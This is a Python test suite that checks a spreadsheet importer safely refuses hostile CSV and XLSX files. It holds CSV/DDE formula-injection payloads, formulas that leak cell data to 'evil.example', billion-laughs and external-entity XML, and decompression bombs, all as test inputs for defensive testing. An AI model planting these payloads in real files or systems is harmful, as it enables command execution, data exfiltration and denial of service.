"""Hostile sheets: formulas are text, and neither CSV nor a workbook eats memory or reaches out."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.hostile.beacon import Beacon
from tests.hostile.jail import Jail, Outcome

pytestmark = pytest.mark.slow

HEADING = "Record ID,ISBN,Title,Description"
ISBN = "9783161484100"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2:E2),"//a/a10")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "|cmd",
    "＝1+1",
)


def _read(jail: Jail, folder: Path, data: bytes | str, name: str = "sheet.csv") -> Outcome:
    path = folder / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return jail.read(path, mapping="house_sheet")


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def test_formulas_in_csv_are_read_as_text(tmp_path: Path, jail: Jail) -> None:
    rows = [f"r{n},{ISBN},{_quoted(formula)},x" for n, formula in enumerate(FORMULAS)]
    outcome = _read(jail, tmp_path, "\n".join([HEADING, *rows, ""]))
    assert [one["title"] for one in outcome.records] == list(FORMULAS)


def test_formulas_in_a_workbook_are_never_worked_out(tmp_path: Path, jail: Jail) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADING.split(","))
    sheet.append(["r0", ISBN, "=cmd|' /C calc'!A0", "x"])
    sheet.append(["r1", ISBN, "plain", "=1+1"])
    out = io.BytesIO()
    book.save(out)
    outcome = _read(jail, tmp_path, out.getvalue(), "sheet.xlsx")
    assert outcome.references == ["r0", "r1"]
    assert [one["title"] for one in outcome.records] == [None, "plain"], "no value is stored beside the formula"


def _workbook(**parts: str) -> bytes:
    """A workbook of one sheet, some of its parts replaced."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADING.split(","))
    sheet.append(["r0", ISBN, "A title", "x"])
    plain, out = io.BytesIO(), io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            key = name.rpartition("/")[2].partition(".")[0]
            target.writestr(name, parts.get(key, source.read(name).decode()))
    return out.getvalue()


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _sheet(rows: str, *, doctype: str = "", dimension: str = "A1:D2") -> str:
    return (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{_MAIN}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )


def _cell(text: str, place: str = "A1") -> str:
    return f'<row r="1"><c r="{place}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _laughs() -> str:
    levels = "".join("<!ENTITY l{} '{}'>".format(n, f"&l{n - 1};" * 10) for n in range(1, 11))
    return f"<!DOCTYPE x [<!ENTITY l0 'lol'>{levels}]>"


WORKBOOKS: dict[str, dict[str, str]] = {
    "billion laughs in the sheet": {"sheet1": _sheet(_cell("&l10;"), doctype=_laughs())},
    "billion laughs in the styles": {
        "styles": f'<?xml version="1.0"?>{_laughs()}<styleSheet xmlns="{_MAIN}">&l10;</styleSheet>'
    },
    "external entity": {"sheet1": _sheet(_cell("&x;"), doctype='<!DOCTYPE x [<!ENTITY x SYSTEM "{url}/x">]>')},
    "billion laughs behind a long comment": {
        "sheet1": _sheet(_cell("&l10;"), doctype=f"<!--{'x' * 100_000}-->{_laughs()}")
    },
    "billion laughs in UTF-7": {
        "sheet1": '<?xml version="1.0" encoding="UTF-7"?>'
        + _sheet(_cell("&l10;"), doctype=_laughs()).partition("?>")[2].replace("<!", "+ADwAIQ-")
    },
    "external DTD": {"sheet1": _sheet(_cell("x"), doctype='<!DOCTYPE x SYSTEM "{url}/x.dtd">')},
    "another heading in the last column": {"sheet1": _sheet(_cell("x", "XFD1"), dimension="A1:XFD1048576")},
    "a row of the last number": {"sheet1": _sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')},
    "a hundred thousand levels": {"sheet1": _sheet("<a>" * 100_000)},
    "no workbook": {"workbook": "<x/>"},
    "a sheet that is no XML": {"sheet1": "\0\0\0"},
}


@pytest.mark.parametrize("name", WORKBOOKS)
def test_hostile_workbooks_are_refused(tmp_path: Path, jail: Jail, beacon: Beacon, name: str) -> None:
    parts = {part: text.replace("{url}", beacon.url) for part, text in WORKBOOKS[name].items()}
    outcome = _read(jail, tmp_path, _workbook(**parts), "sheet.xlsx")
    assert outcome.rule in {"F1", "F3", "F5"}
    assert beacon.asked == []


def test_a_workbook_that_unpacks_to_a_bomb_is_refused(tmp_path: Path, jail: Jail) -> None:
    outcome = _read(jail, tmp_path, _workbook(sheet1=_sheet(_cell("x" * 200_000_000))), "sheet.xlsx")
    assert (outcome.rule, "bomb" in outcome.what) == ("F2", True)


SHEETS: dict[str, tuple[Callable[[], str | bytes], str]] = {
    "NULs": (lambda: bytes(1_000_000), "binary data"),
    "a heading of a million columns": (lambda: ",".join(f"c{n}" for n in range(1_000_000)), "has no column"),
    "a heading of 20 MB": (lambda: "x" * 20_000_000, "has no column"),
    "a quote never closed": (lambda: '"' + "x,\n" * 5_000_000, "has no column"),
    "UTF-16 that breaks off": (lambda: f"{HEADING}\n".encode("utf-16")[:-1], "UTF-16"),
    "a program": (lambda: b"\x7fELF" + bytes(range(32)) * 100, "binary data"),
}


@pytest.mark.parametrize("name", SHEETS)
def test_hostile_csv_is_refused_by_what_it_is(tmp_path: Path, jail: Jail, name: str) -> None:
    build, word = SHEETS[name]
    outcome = _read(jail, tmp_path, build())
    assert outcome.rule in {"F4", "F5"}
    assert word in outcome.what


@pytest.mark.parametrize(
    "row",
    ['b,x,"' + "y" * 20_000_000, "b," + "x," * 5_000_000, 'b,"x"y"z",t', "b," + "\0,t,x,y", '"' * 500_001],
    ids=["a cell of 20 MB never closed", "five million cells", "quotes in quotes", "NULs", "half a million quotes"],
)
def test_a_hostile_row_costs_itself_alone(tmp_path: Path, jail: Jail, row: str) -> None:
    good = [f"{name},{ISBN},A title,x" for name in ("a", "c")]
    outcome = _read(jail, tmp_path, "\n".join([HEADING, good[0], row, good[1], ""]))
    assert [one for one in outcome.references if one in {"a", "c"}] == ["a", "c"]
    assert outcome.received == 3
